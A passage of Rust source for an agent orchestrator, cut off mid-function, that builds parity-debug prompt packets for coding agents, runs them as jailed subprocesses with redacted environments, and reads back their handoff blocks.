//! The coding-agent adapter of the agent loop: the packet an agent is given
//! (`component_context` plus the last verdict, the ledger and the rules), the
//! agent's run as a subprocess in the component's worktree, and the reading
//! of the `component_skill_handoff` block it returns.
//!
//! Any CLI is an agent: `[agent].command` is an argv template. Nothing here
//! knows a particular agent; the replay agent of the examples is a program
//! like any other.
//!
//! A spec's agent command is code the spec's author chose, run on the
//! orchestrator's host: it runs only where [`AgentPolicy`] admits it
//! (`fvd orchestrator serve --allow-agent-commands`; embedded mode admits
//! the commands of the spec its own `fvd submit` read), in the
//! orchestrator's jail (its token file hidden), with the allow-listed
//! environment jobs get (`fvd_sandbox::env`) plus the variables `[agent].env`
//! names and fvd's `FVD_*`, and never the orchestrator's or a worker's
//! credential; what it prints and leaves is redacted of those variables'
//! values and the orchestrator's token.

use std::collections::{BTreeMap, HashMap};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fvd_contracts::Contract;
use fvd_contracts::block::fenced_blocks;
use fvd_contracts::component::{ComponentSkillHandoff, SkillNextStep};
use fvd_contracts::escape_hatch::EscapeHatch;
use fvd_contracts::fields::Slot;
use fvd_contracts::pipeline::{PipelineHandoff, PipelineNextStep};
use fvd_contracts::redactor::Redactor;
use tokio::io::AsyncReadExt;
use tokio::process::Command;

use fvd_spec::ComponentSpec;
use fvd_store::states::{HandoffStatus, RecordedVerdict};
use fvd_store::{AttemptRow, EscapeRow};

/// The pytest output given to the agent is cut to its last this many bytes.
pub const OUTPUT_TAIL_BYTES: usize = 4000;

/// Which spec-given agent commands run here (issue #27: spec-given code
/// runs where it is trusted).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum AgentCommands {
    /// None: a fleet orchestrator started without `--allow-agent-commands`
    /// (a spec is sent by whoever holds the token, and its agent command
    /// would run on this host).
    #[default]
    Refused,
    /// Any (`--allow-agent-commands`: the operator trusts the specs).
    Allowed,
    /// These `[agent] command` templates only: embedded mode, where the
    /// porter's own `fvd submit` read them from their checkout, and a spec
    /// sent by anything else (a test holding the token) brings none.
    Only(Vec<Vec<String>>),
}

/// Where an attempt's agent runs (issue #32).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum AgentsOn {
    /// On the orchestrator's host, in the component's worktree (embedded
    /// mode, `fvd orchestrator serve --agents host`).
    #[default]
    Host,
    /// As a fleet job on a worker, in a checkout of its own; the model
    /// proxy stays here and the worker reaches it through a tunnel.
    Fleet,
}

/// The jobs workers run for agents, by job id: attempts on the fleet and
/// the parity runs an agent's tools ask for. They have no row in the
/// store's `jobs`: what the worker edge checks a worker's `FetchCode` and
/// `Tunnel` calls against is here, for as long as the job runs.
#[derive(Debug, Clone, Default)]
pub struct FleetAttempts(Arc<Mutex<HashMap<String, FleetAttempt>>>);

/// One attempt on the fleet, as the worker edge needs it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FleetAttempt {
    /// The port's repository, which serves the attempt's base commit.
    pub repo: PathBuf,
    pub commit: String,
    /// The attempt's model proxy here, when its agent has one.
    pub proxy: Option<SocketAddr>,
    /// The attempt's tools here (`fvd mcp`'s other end).
    pub tools: Option<SocketAddr>,
    /// The worker holding its lease, once leased, and the lease's epoch.
    pub lease: Option<(String, u64)>,
}

impl PartialEq for FleetAttempts {
    fn eq(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.0, &other.0)
    }
}

impl Eq for FleetAttempts {}

impl FleetAttempts {
    /// Registers `job_id` until the guard is dropped.
    pub fn open(&self, job_id: &str, attempt: FleetAttempt) -> AttemptOpen {
        self.lock().insert(job_id.to_string(), attempt);
        AttemptOpen {
            attempts: self.clone(),
            job_id: job_id.to_string(),
        }
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, HashMap<String, FleetAttempt>> {
        self.0.lock().expect("fleet attempts lock")
    }

    /// `worker_id` holds the job's lease now, under `epoch`.
    pub fn leased(&self, job_id: &str, worker_id: &str, epoch: u64) {
        if let Some(a) = self.lock().get_mut(job_id) {
            a.lease = Some((worker_id.to_string(), epoch));
        }
    }

    /// Its worker lost, the job waits for another.
    pub fn unleased(&self, job_id: &str) {
        if let Some(a) = self.lock().get_mut(job_id) {
            a.lease = None;
        }
    }

    /// The worker holding `job_id`'s lease and the lease's epoch, if any.
    pub fn lease_of(&self, job_id: &str) -> Option<(String, u64)> {
        self.lock().get(job_id).and_then(|a| a.lease.clone())
    }

    /// The attempt of `job_id` when `worker_id` holds its lease.
    pub fn held_by(&self, job_id: &str, worker_id: &str) -> Option<FleetAttempt> {
        self.lock()
            .get(job_id)
            .filter(|a| a.lease.as_ref().is_some_and(|(w, _)| w == worker_id))
            .cloned()
    }
}

/// A registered attempt: gone from [`FleetAttempts`] when dropped.
#[derive(Debug)]
pub struct AttemptOpen {
    attempts: FleetAttempts,
    job_id: String,
}

impl Drop for AttemptOpen {
    fn drop(&mut self) {
        self.attempts.lock().remove(&self.job_id);
    }
}

/// Where agents may run and what they get.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AgentPolicy {
    pub commands: AgentCommands,
    /// Where they run.
    pub on: AgentsOn,
    /// The jobs without a row in the store that workers run for agents
    /// (attempts, and the runs their tools ask for): what the worker edge
    /// serves code and tunnels for. One per orchestrator.
    pub registry: FleetAttempts,
    /// The jail agents start in.
    pub jail: fvd_sandbox::Jail,
    /// The orchestrator's own secrets (its token): redacted from what an
    /// agent prints and leaves, with the values of the variables its spec
    /// passes.
    pub secrets: Redactor,
    /// What an attempt's commit (and a `run_parity` snapshot) may bring
    /// back: its pack, and the files it adds or changes.
    pub limits: crate::attempt_caps::AttemptLimits,
}

impl AgentPolicy {
    /// Any command, no jail, no secret: tests of the agent loop.
    pub fn allowing() -> Self {
        Self {
            commands: AgentCommands::Allowed,
            ..Self::default()
        }
    }

    /// Whether `agent` may run here; the error says why not and what
    /// allows it.
    pub fn admits(&self, agent: &fvd_spec::AgentSpec) -> Result<(), String> {
        // Presets (issue #29) run fvd's own command, not the spec's: they
        // are admitted whatever `commands` says.
        if agent.preset.is_some() {
            return Ok(());
        }
        match &self.commands {
            AgentCommands::Allowed => Ok(()),
            AgentCommands::Only(known) if known.contains(&agent.command) => Ok(()),
            AgentCommands::Only(_) => Err(
                "[agent] command differs from the spec this embedded fvd was started with; it runs no other agent command".into(),
            ),
            AgentCommands::Refused => Err(
                "[agent] command: this orchestrator runs no raw agent command (start it with fvd orchestrator serve --allow-agent-commands if you trust every spec sent to it)".into(),
            ),
        }
    }

    /// What is redacted from an agent's output, handoff and files: the
    /// orchestrator's secrets and the values of `env_names` here.
    pub fn redactor(&self, env_names: &[String]) -> Redactor {
        let mut r = self.secrets.clone();
        for name in env_names {
            if let Ok(v) = std::env::var(name) {
                r.add(name, v.as_bytes());
            }
        }
        r
    }
}

/// The last run the agent is asked to fix.
#[derive(Debug, Clone)]
pub struct LastRun<'a> {
    pub job_id: &'a str,
    pub verdict: RecordedVerdict,
    pub reason: &'a str,
    pub output_tail: &'a str,
}

/// What the prompt of one attempt is made of.
#[derive(Debug, Clone)]
pub struct Packet<'a> {
    pub family: &'a str,
    pub spec: &'a ComponentSpec,
    /// The port's prep fields.
    pub prep: &'a BTreeMap<String, String>,
    pub attempt: u32,
    /// Which attempt of the budget this one is (attempts before a
    /// `--rerun` stay in the ledger but no longer count).
    pub budget_used: u32,
    pub max_attempts: u32,
    pub last: LastRun<'a>,
    /// Previous attempts, oldest first.
    pub ledger: &'a [AttemptRow],
    /// The agent's working folder: the port's folder in its worktree.
    pub workdir: &'a str,
    pub handoff_file: &'a str,
    /// Escape hatches of this component a person answered since the last
    /// attempt: the answers are part of the task.
    pub answers: &'a [EscapeRow],
    /// The component's judge questions a person decided (issue #39):
    /// what became of the judge changes earlier attempts made.
    pub judge_decisions: &'a [EscapeRow],
    /// The `E###` id a new escape hatch of this attempt will get.
    pub next_escape_id: &'a str,
    /// One line on the component's latest trace investigation, when it is
    /// traced (`fvd trace show` has the whole report).
    pub trace: Option<&'a str>,
    /// The table of the red run's hypothesis variants (`[[component.variant]]`,
    /// one line each), when it has variants.
    pub variants: Option<&'a str>,
    /// A pipeline step's facts of the port: the packet is then a
    /// `pipeline_context` and asks for a `pipeline_handoff`.
    pub pipeline: Option<&'a pipeline::PipelineFacts>,
}

/// The prompt of one attempt, written to `{prompt_file}`.
pub fn packet(p: &Packet<'_>) -> String {
    let Packet {
        family,
        spec,
        prep,
        attempt,
        budget_used,
        max_attempts,
        last,
        ledger,
        workdir,
        handoff_file,
        answers,
        judge_decisions,
        next_escape_id,
        trace,
        variants,
        pipeline,
    } = p;
    let mut out = String::new();
    let (mode, heading, context) = match pipeline {
        Some(facts) => (
            pipeline::mode(spec),
            "Pipeline context",
            pipeline::context(family, spec, prep, facts, last),
        ),
        None => (
            "parity-debug",
            "Component context",
            component_context(family, spec, prep, last),
        ),
    };
    out.push_str(&format!(
        "# fvd {mode}: {family} / {} (attempt {attempt}; {budget_used} of {max_attempts} in the budget)\n\nWork in `{workdir}`: the port's folder in this component's own git worktree.\n\n## {heading}\n\n```text\n{context}```\n\n",
        spec.name
    ));
    out.push_str(&format!(
        "## Last verdict\n\nRun `{}`: **{}**. {}\n\nParity command (run from the worktree): `{}`\n\nTail of the pytest output:\n\n```text\n{}\n```\n\n",
        last.job_id,
        last.verdict,
        last.reason,
        spec.argv().join(" "),
        tail(last.output_tail, OUTPUT_TAIL_BYTES).trim_end()
    ));
    if let Some(t) = trace {
        out.push_str(&format!(
            "## Trace report\n\nfvd reran the test with activation traces on both sides and compared them: {t}\nThe whole report, with every aligned row: `fvd trace show {family} {} --json`.\n\n",
            spec.name
        ));
    }
    if let Some(v) = variants {
        out.push_str(&format!(
            "## Hypothesis variants\n\nfvd reran the red test under each variant of the spec (environment overrides) at once; a variant that passes or moves the first divergence points at the cause:\n\n{v}\n\n"
        ));
    }
    out.push_str("## Previous attempts\n\n");
    if ledger.is_empty() {
        out.push_str("None: this is the first attempt.\n\n");
    }
    for a in ledger.iter() {
        out.push_str(&format!(
            "- attempt {}: commit {}; verdict {} -> {}; agent exit {}; handoff {}: {}\n",
            a.attempt,
            short(&a.commit_sha),
            a.verdict_before,
            if a.verdict_after.is_none() {
                "(not run)"
            } else {
                a.verdict_after.as_str()
            },
            exit_text(a.exit_code, a.signal, a.timed_out),
            a.handoff_status,
            a.handoff_summary
        ));
        for line in a.diff_stat.lines() {
            out.push_str(&format!("    {line}\n"));
        }
    }
    if !ledger.is_empty() {
        out.push('\n');
    }
    out.push_str(&decisions(answers, judge_decisions));
    out.push_str(
        "## Rules\n\n\
- Change the port's code in this worktree until the parity test above is a non-skip pass; fvd commits your changes and reruns the test itself. Your own claim of a pass is not evidence: the rerun is.\n\
- A skip is not a pass. Do not make the test skip, xfail or loosen its tolerance to turn it green.\n\
- What judges this component is the port's, not yours: its parity test files, each `conftest.py` and pytest configuration on the way to them, the official reference, `port.toml` and `PORT_STATUS.md`. fvd runs your code with the port's own judge; a change you make there is not counted and becomes a person's question.\n\
- Before a pass counts, the cleanup gate refuses untracked files, stash entries and debug hooks or breakpoints left in your diff.\n\
- Never write a token or secret value anywhere (code, handoff, output); name environment variables instead.\n",
    );
    if pipeline.is_some() {
        out.push_str(&pipeline::rules(spec, next_escape_id, handoff_file));
        return out;
    }
    out.push_str(&format!(
        "- If the mismatch comes from converted weights or the conversion mapping, do not edit conversion scripts or converted weights: return `next_step: phase_5_conversion_retry` with a `conversion_retry_request` naming the failing keys, shapes or prefixes.\n\
- If you cannot make progress, return `next_step: blocked` with the exact `blocker`.\n\
- If a decision needs a person (scope, an ambiguity between official sources, cost), return `next_step: ask_user` with an `escape_hatch` whose evidence cites {next_escape_id}; the rest of the port goes on while the question waits, and the answer comes back in your next packet.\n\n\
## Handoff\n\n\
When done, write a `component_skill_handoff` block (the contract's fields, `mode: parity-debug`, `component: {}`) to `{handoff_file}`, or print it as the last block of your output.\n",
        spec.name
    ));
    out
}

/// The packet's sections on what people decided: the answers to the
/// agent's questions and the judge changes they approved or rejected.
fn decisions(answers: &[EscapeRow], judge_decisions: &[EscapeRow]) -> String {
    let mut out = String::new();
    if !answers.is_empty() {
        out.push_str("## Answers to your questions\n\n");
        for e in answers.iter() {
            out.push_str(&format!(
                "- {} (asked in attempt {}): {}\n  Answer: {}\n",
                e.id, e.attempt, e.question, e.answer
            ));
        }
        out.push_str("\nFollow these answers; do not ask the same question again.\n\n");
    }
    if !judge_decisions.is_empty() {
        out.push_str("## Your changes to the judge\n\nA person decided each judge change an earlier attempt made:\n\n");
        for e in judge_decisions.iter() {
            let by = if e.answered_by.is_empty() {
                String::new()
            } else {
                format!(" by {}", e.answered_by)
            };
            let what = if e.judge_commit.is_empty() {
                format!("rejected{by}: it is no longer on your branch")
            } else {
                format!(
                    "approved{by}: it is commit {} on your branch, and runs are judged by it",
                    short(&e.judge_commit)
                )
            };
            out.push_str(&format!(
                "- {} (attempt {}): {what}.\n  Their answer: {}\n",
                e.id, e.attempt, e.answer
            ));
        }
        out.push('\n');
    }
    out
}

fn component_context(
    family: &str,
    spec: &ComponentSpec,
    prep: &BTreeMap<String, String>,
    last: &LastRun<'_>,
) -> String {
    let get = |k: &str| {
        prep.get(k)
            .filter(|v| !v.is_empty())
            .cloned()
            .unwrap_or_else(|| format!("unknown (searched: prep.{k} of port.toml)"))
    };
    let conversion = if prep.get("needs_conversion").is_some_and(|v| v == "no") {
        "not_needed"
    } else {
        "unknown"
    };
    let searched = format!(
        "port.toml names no official files; search {}",
        get("official_ref_dir")
    );
    let concern = one_line(&format!("parity is {}: {}", last.verdict, last.reason));
    format!(
        "component_context:
  model_family: {family}
  component: {name}
  component_type: {ctype}
  mode: parity-debug
  official_ref_dir: {ref_dir}
  official_definition_files:
    - path: unknown (searched: {searched})
      symbols: unknown
      notes: unknown
  official_instantiation_files:
    - path: unknown (searched: {searched})
      symbols: unknown
      args: unknown
  official_weight_source: {weights}
  fastvideo_target_files:
    - unknown (searched: port.toml names no target files; the parity test imports them)
  local_tests_readme: {readme}
  port_state_file: {state}
  parity_test: {test}
  prototype_key_dumps:
    official: unknown
    fastvideo: unknown
  conversion:
    script: {conversion}
    converted_component_dir: {conversion}
    model_index_library: unknown
    config_file: unknown
    mapping_notes: {conversion}
    production_loader_strictness: unknown
    strict_load: not_run
  concerns_or_unknowns:
    - {concern}
",
        name = spec.name,
        ctype = spec.component_type,
        ref_dir = get("official_ref_dir"),
        weights = get("hf_weights_path"),
        readme = get("local_tests_readme"),
        state = get("port_state_file"),
        test = spec.parity_tests.join(", "),
    )
}

/// The last `max` bytes of `s`, on a character boundary.
pub fn tail(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut start = s.len() - max;
    while !s.is_char_boundary(start) {
        start += 1;
    }
    &s[start..]
}

fn one_line(s: &str) -> String {
    let line = s.split_whitespace().collect::<Vec<_>>().join(" ");
    tail(&line, 400).to_string()
}

fn short(sha: &str) -> &str {
    &sha[..sha.len().min(12)]
}

/// How an agent run ended, in words.
pub fn exit_text(code: Option<i32>, signal: Option<i32>, timed_out: bool) -> String {
    match (timed_out, code, signal) {
        (true, _, _) => "timed out".into(),
        (_, Some(c), _) => format!("exit {c}"),
        (_, None, Some(s)) => format!("signal {s}"),
        _ => "did not start".into(),
    }
}

/// How the agent process ended.
#[derive(Debug, Clone, Default)]
pub struct AgentExit {
    pub exit_code: Option<i32>,
    pub signal: Option<i32>,
    pub timed_out: bool,
    /// Ended by fvd before it exited on its own (its proxy tripped: a
    /// budget spent, a refused key, an upstream that kept failing).
    pub stopped: bool,
    pub duration_ms: u64,
    pub stdout: String,
    /// Why the agent could not be started, if it could not.
    pub spawn_error: Option<String>,
}

/// What an agent run needs besides its argv: where, with what, for how
/// long, and under which policy.
#[derive(Debug, Clone, Copy)]
pub struct RunAgent<'a> {
    pub cwd: &'a Path,
    /// Variables of this process the agent gets by name (`[agent].env`).
    pub env_names: &'a [String],
    /// fvd's own variables (`FVD_*`, the cookie, `TRACEPARENT`).
    pub extra: &'a [(String, String)],
    pub timeout: Duration,
    /// Its stdout and stderr are written here too (redacted).
    pub log_dir: &'a Path,
    pub policy: &'a AgentPolicy,
}

/// Runs the agent `argv` in its jail with the allow-listed environment,
/// the variables `env_names` names and `extra`; kills its whole process
/// group at `timeout`. Its stdout and stderr, redacted, are also written to
/// `log_dir`. The caller checked [`AgentPolicy::admits`].
pub async fn run(argv: &[String], r: RunAgent<'_>) -> AgentExit {
    run_with(argv, r, None, std::future::pending()).await
}

/// [`run`], with `stdin` written to the agent (else it reads nothing) and
/// its process group killed as soon as `stop` completes (`stopped`).
pub async fn run_with(
    argv: &[String],
    r: RunAgent<'_>,
    stdin: Option<Vec<u8>>,
    stop: impl std::future::Future<Output = ()>,
) -> AgentExit {
    let started = Instant::now();
    let mut env: BTreeMap<String, String> = fvd_sandbox::env::inherited().into_iter().collect();
    for name in r.env_names {
        if let Ok(v) = std::env::var(name) {
            env.insert(name.clone(), v);
        }
    }
    env.extend(r.extra.iter().cloned());
    let redactor = r.policy.redactor(r.env_names);
    if fvd_sandbox::jail::resolve(&argv[0], env.get("PATH").map(String::as_str), r.cwd).is_none() {
        return AgentExit {
            spawn_error: Some(format!(
                "cannot start agent {}: not found on its PATH",
                argv[0]
            )),
            ..AgentExit::default()
        };
    }
    // The git folders around its checkout are read-only to the agent
    // (issue #38): fvd commits what it leaves with its own git, outside
    // the jail, and nothing the agent wrote there may change what that
    // git runs.
    let jail = r.policy.jail.read_only(&fvd_git::git_paths(r.cwd));
    let mut cmd = Command::from(jail.command(argv));
    cmd.current_dir(r.cwd)
        .env_clear()
        .envs(&env)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        // Its own group, so a timeout ends the agent's children too.
        .process_group(0)
        .kill_on_drop(true);
    let (timeout, log_dir) = (r.timeout, r.log_dir);
    let mut child = match cmd.spawn() {
        Ok(c) => c,
        Err(e) => {
            return AgentExit {
                spawn_error: Some(format!("cannot start agent {}: {e}", argv[0])),
                ..AgentExit::default()
            };
        }
    };
    let pid = child.id();
    // Dropped before the agent ended (its attempt was cancelled): its whole
    // group goes, not only the process `kill_on_drop` ends.
    let group = GroupKill(pid);
    if let (Some(bytes), Some(mut input)) = (stdin, child.stdin.take()) {
        // Written beside the run: an agent that reads its input late (or
        // never) must not hold up the wait below.
        fvd_telemetry::spawn(async move {
            use tokio::io::AsyncWriteExt;
            let _ = input.write_all(&bytes).await;
            let _ = input.shutdown().await;
        });
    }
    let mut so = child.stdout.take().expect("stdout is piped");
    let mut se = child.stderr.take().expect("stderr is piped");
    let out = fvd_telemetry::spawn(async move {
        let mut b = Vec::new();
        let _ = so.read_to_end(&mut b).await;
        b
    });
    let err = fvd_telemetry::spawn(async move {
        let mut b = Vec::new();
        let _ = se.read_to_end(&mut b).await;
        b
    });
    let (status, timed_out, stopped) = tokio::select! {
        s = tokio::time::timeout(timeout, child.wait()) => match s {
            Ok(s) => (s.ok(), false, false),
            Err(_) => {
                kill_group(pid);
                (child.wait().await.ok(), true, false)
            }
        },
        () = stop => {
            kill_group(pid);
            (child.wait().await.ok(), false, true)
        }
    };
    group.disarm();
    let stdout = redactor.bytes(&out.await.unwrap_or_default());
    let stderr = redactor.bytes(&err.await.unwrap_or_default());
    let _ = std::fs::write(log_dir.join("agent.stdout"), &stdout);
    let _ = std::fs::write(log_dir.join("agent.stderr"), &stderr);
    use std::os::unix::process::ExitStatusExt;
    AgentExit {
        exit_code: status.and_then(|s| s.code()),
        signal: status.and_then(|s| s.signal()),
        timed_out,
        stopped,
        duration_ms: started.elapsed().as_millis() as u64,
        stdout: String::from_utf8_lossy(&stdout).into_owned(),
        spawn_error: None,
    }
}

/// Kills an agent's process group when dropped armed: a run whose future
/// is dropped (its attempt's actor ended with its component) leaves no
/// process behind.
struct GroupKill(Option<u32>);

impl GroupKill {
    fn disarm(mut self) {
        self.0 = None;
    }
}

impl Drop for GroupKill {
    fn drop(&mut self) {
        kill_group(self.0);
    }
}

/// SIGKILL to the process group that `pid` leads (the agent runs in its
/// own group); nothing for `None`.
fn kill_group(pid: Option<u32>) {
    if let Some(pid) = pid {
        let _ = nix::sys::signal::killpg(
            nix::unistd::Pid::from_raw(pid as i32),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
}

/// The environment variable that marks every process of one agent run.
pub const COOKIE_ENV: &str = "FVD_AGENT_COOKIE";

/// Ends every process still carrying `cookie` in its environment: what is
/// left of an agent whose orchestrator was killed. An agent left running
/// would go on editing the worktree under the attempt's rerun. Returns the
/// pids signalled. Processes of other users cannot be read and are skipped.
pub fn kill_leftovers(cookie: &str) -> Vec<i32> {
    if cookie.is_empty() {
        return Vec::new();
    }
    fvd_procs::find(None, Some((COOKIE_ENV, cookie)))
        .into_iter()
        .map(|p| {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(p.pid),
                nix::sys::signal::Signal::SIGKILL,
            );
            p.pid
        })
        .collect()
}

/// The agent's handoff as fvd read it.
#[derive(Debug, Clone)]
pub struct HandoffRead {
    /// `valid`, `invalid` or `missing`.
    pub status: HandoffStatus,
    /// The key fields of a valid block, or the findings of an invalid one.
    pub summary: String,
    /// The block as returned; withheld when it holds a token-looking value.
    pub text: String,
    pub value: Option<ComponentSkillHandoff>,
    /// The pipeline agent's valid `pipeline_handoff` (a pipeline step's
    /// attempt; `value` is then `None`).
    pub pipeline: Option<PipelineHandoff>,
    /// Where the block was read: `structured_output` (the CLI's), `file`
    /// (`{handoff_file}`), `output` (the last block the agent printed), or
    /// empty when there was none.
    pub source: &'static str,
}

impl HandoffRead {
    /// No block of `kind` came back.
    fn missing(kind: &str) -> HandoffRead {
        HandoffRead {
            status: HandoffStatus::Missing,
            summary: format!("the agent returned no {kind} block"),
            text: String::new(),
            value: None,
            pipeline: None,
            source: "",
        }
    }

    /// The files the agent says it changed.
    pub fn files_changed(&self) -> Vec<String> {
        let files = match (&self.value, &self.pipeline) {
            (Some(h), _) => &h.files_changed,
            (None, Some(p)) => &p.files_changed,
            (None, None) => return Vec::new(),
        };
        files.iter().map(|f| f.to_string()).collect()
    }

    /// Why the loop must stop after this handoff, when the agent itself says
    /// it cannot go on (a blocker, a conversion retry, a question).
    /// The escape hatch of a valid `next_step: ask_user` handoff (the
    /// contract check already required one that asks).
    pub fn escape(&self) -> Option<&EscapeHatch> {
        if let Some(p) = &self.pipeline {
            return match (&p.next_step, &p.escape_hatch) {
                (PipelineNextStep::AskUser, Slot::Block(e)) => Some(e),
                _ => None,
            };
        }
        let h = self.value.as_ref()?;
        match (&h.next_step, &h.escape_hatch) {
            (SkillNextStep::AskUser, Slot::Block(e)) => Some(e),
            _ => None,
        }
    }

    /// The conversion retry request of a valid handoff that returns one.
    pub fn conversion_retry(&self) -> Option<String> {
        let h = self.value.as_ref()?;
        (h.next_step == SkillNextStep::Phase5ConversionRetry).then(|| {
            match &h.conversion_retry_request {
                Slot::Text(t) => one_line(t),
                _ => "a conversion_retry_request block (see the attempt ledger)".into(),
            }
        })
    }

    pub fn stop_reason(&self) -> Option<String> {
        if let Some(p) = &self.pipeline {
            return pipeline::stop_reason(p);
        }
        let h = self.value.as_ref()?;
        match h.next_step {
            SkillNextStep::Blocked => Some(format!("agent reports a blocker: {}", h.blocker)),
            SkillNextStep::Phase5ConversionRetry => Some(match &h.conversion_retry_request {
                Slot::Text(t) => format!("conversion_retry_request: {}", one_line(t)),
                // The block itself is in the ledger's handoff text.
                _ => "conversion_retry_request returned (see the attempt ledger)".into(),
            }),
            // A question is not a stop: the component waits for `fvd answer`
            // (see [`HandoffRead::escape`]).
            _ => None,
        }
    }
}

/// Reads the agent's `component_skill_handoff`: the handoff file when the
/// agent wrote one, else the last such block of its stdout. A missing or
/// invalid block is reported as such; nothing is guessed.
pub fn read_handoff(component: &str, file: Option<&str>, stdout: &str) -> HandoffRead {
    read_handoff_of(component, None, file, stdout)
}

/// The handoff of `spec`'s agent: a pipeline step's `pipeline_handoff`
/// ([`pipeline::read_handoff_of`]), a component's
/// `component_skill_handoff` ([`read_handoff_of`]).
pub fn read_handoff_for(
    spec: &ComponentSpec,
    structured: Option<&str>,
    file: Option<&str>,
    text: &str,
) -> HandoffRead {
    match spec.stage {
        fvd_spec::Stage::Pipeline => pipeline::read_handoff_of(structured, file, text),
        _ => read_handoff_of(&spec.name, structured, file, text),
    }
}

/// [`read_handoff`] for a CLI with structured output: the handoff it
/// returned there comes first, then the handoff file, then the last block
/// of `text` (its final answer).
pub fn read_handoff_of(
    component: &str,
    structured: Option<&str>,
    file: Option<&str>,
    text: &str,
) -> HandoffRead {
    let Some((block, source)) = pick_block(structured, file, text, "component:") else {
        return HandoffRead::missing("component_skill_handoff");
    };
    let checked = ComponentSkillHandoff::check(&block, 1);
    let text = kept_text(&block);
    let mut findings: Vec<String> = checked.findings.iter().map(|f| f.to_string()).collect();
    if let Some(v) = &checked.value
        && v.component.to_string() != component
    {
        findings.push(format!(
            "component: names {} instead of {component}",
            v.component
        ));
    }
    if !findings.is_empty() || checked.value.is_none() {
        if findings.is_empty() {
            findings.push("the block could not be read".into());
        }
        return HandoffRead {
            status: HandoffStatus::Invalid,
            summary: one_line(&findings.join("; ")),
            text,
            value: None,
            pipeline: None,
            source,
        };
    }
    let v = checked.value.expect("checked above");
    let files = v
        .files_changed
        .iter()
        .map(|f| f.to_string())
        .collect::<Vec<_>>()
        .join(", ");
    HandoffRead {
        status: HandoffStatus::Valid,
        summary: one_line(&format!(
            "parity_status={} next_step={} files_changed={} blocker={}",
            v.parity_status.as_str(),
            v.next_step.as_str(),
            if files.is_empty() { "none" } else { &files },
            v.blocker
        )),
        text,
        value: Some(v),
        pipeline: None,
        source,
    }
}

/// The block an agent handed back: its CLI's structured output, else the
/// handoff file, else the last block of `text` that starts with `start`;
/// with where it was read.
fn pick_block(
    structured: Option<&str>,
    file: Option<&str>,
    text: &str,
    start: &str,
) -> Option<(String, &'static str)> {
    let present = |t: Option<&str>| t.filter(|t| !t.trim().is_empty()).map(unfence);
    if let Some(b) = present(structured) {
        Some((b, "structured_output"))
    } else if let Some(b) = present(file) {
        Some((b, "file"))
    } else {
        last_block(text, start).map(|b| (b, "output"))
    }
}

/// A handoff block as fvd keeps it: its tail, or withheld whole when it
/// holds a token-looking value.
fn kept_text(block: &str) -> String {
    if fvd_contracts::secrets::scan_text(block, 1).is_empty() {
        tail(block, 16 * 1024).to_string()
    } else {
        "[withheld: the block holds a token-looking value]".to_string()
    }
}

/// The body of the last fenced block of `text`, or `text` itself.
/// A question an agent asked through its `ask_user` tool (`fvd mcp`,
/// issue #32): the escape hatch as a tool call instead of a handoff field.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AskedQuestion {
    /// One of the escape hatch's decision types (`ambiguity`, `scope`, …).
    pub decision_type: String,
    pub question: String,
    pub recommended_option: String,
    /// The choices, the recommended one among them.
    pub options: Vec<String>,
    /// `none` when there is no safe default.
    pub safe_default: String,
}

/// Where the attempt stood when its agent asked (the hatch's snapshot) and
/// what a handoff the agent did not return says in its place.
#[derive(Debug, Clone)]
pub struct AskedAt<'a> {
    pub component: &'a str,
    pub parity_test: &'a str,
    /// The last verdict (`debug_red`, …) and its reason.
    pub parity_status: &'a str,
    pub evidence: &'a str,
    /// The `E###` id the question will be recorded under (the packet's
    /// next escape id): the snapshot's evidence cites it.
    pub escape_id: &'a str,
    pub files_changed: &'a [String],
    pub port_state_file: &'a str,
    /// A pipeline step's mode ([`pipeline::mode`]): the question goes into
    /// a `pipeline_handoff`, at P7; `None` for a component.
    pub pipeline_mode: Option<&'a str>,
}

/// The handoff with the question the agent asked as its escape hatch
/// (`next_step: ask_user`), checked again as a whole. The agent's own
/// block keeps its other fields; without one, its fields are what fvd
/// knows (the attempt's test, its last verdict, the files it changed).
pub fn with_question(read: &HandoffRead, q: &AskedQuestion, at: &AskedAt<'_>) -> HandoffRead {
    let list = |items: &[String], indent: &str| -> String {
        if items.is_empty() {
            return " none\n".into();
        }
        let mut out = String::from("\n");
        for i in items {
            out.push_str(&format!("{indent}- {}\n", one_line(i)));
        }
        out
    };
    let hatch = format!(
        "next_step: ask_user\nescape_hatch:\n  needs_user_input: yes\n  decision_type: {}\n  question: {}\n  recommended_option: {}\n  options:{}  safe_default: {}\n  blocked_until_answered: yes\n  state_snapshot:\n    phase: {}\n    files_changed:{}    command_or_test: {}\n    evidence: {}\n",
        one_line(&q.decision_type),
        one_line(&q.question),
        one_line(&q.recommended_option),
        list(&q.options, "    "),
        one_line(&q.safe_default),
        if at.pipeline_mode.is_some() {
            "P7"
        } else {
            "P6"
        },
        list(at.files_changed, "      "),
        one_line(at.parity_test),
        one_line(&format!("{}; {}", at.escape_id, at.evidence)),
    );
    if let Some(mode) = at.pipeline_mode {
        return pipeline::with_question(read, &hatch, at, mode, &list(at.files_changed, "    "));
    }
    let own = read.value.is_some() && read.status == HandoffStatus::Valid;
    let mut block = String::new();
    if own {
        // The agent's block without its next step and its hatch (a field
        // and the lines indented under it).
        let mut skipping = false;
        for line in read.text.lines() {
            let top = !line.starts_with(' ') && !line.starts_with('\t');
            if top {
                skipping = line.starts_with("next_step:") || line.starts_with("escape_hatch:");
            }
            if !skipping {
                block.push_str(line);
                block.push('\n');
            }
        }
    } else {
        block = format!(
